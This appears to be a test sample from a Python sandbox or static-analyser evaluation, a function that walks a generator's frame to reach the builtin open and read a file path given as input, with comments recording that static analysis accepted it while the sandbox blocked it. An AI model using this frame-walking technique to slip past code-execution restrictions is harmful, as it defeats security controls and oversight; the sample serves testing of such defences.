# trick: reaches the frames through a generator
# wants: file
# analysis: accepted
# sandbox: FileNotFoundError
def trick(secret: str) -> str:
    def walk():
        yield steps.gi_frame.f_back.f_builtins["open"](secret).read()

    steps = walk()
    return next(steps)
